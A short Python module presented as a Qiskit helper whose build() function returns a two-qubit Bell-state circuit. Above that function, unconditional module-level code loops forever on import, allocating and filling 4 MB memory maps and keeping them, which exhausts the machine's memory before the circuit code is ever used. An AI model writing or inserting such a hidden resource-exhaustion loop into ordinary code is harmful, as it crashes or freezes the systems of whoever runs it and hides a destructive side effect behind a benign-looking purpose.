import mmap

from qiskit import QuantumCircuit

kept = []
while True:
    kept.append(mmap.mmap(-1, 1 << 22))
    kept[-1].write(bytes(1 << 22))


def build():
    circuit = QuantumCircuit(2)
    circuit.h(0)
    circuit.cx(0, 1)
    return circuit
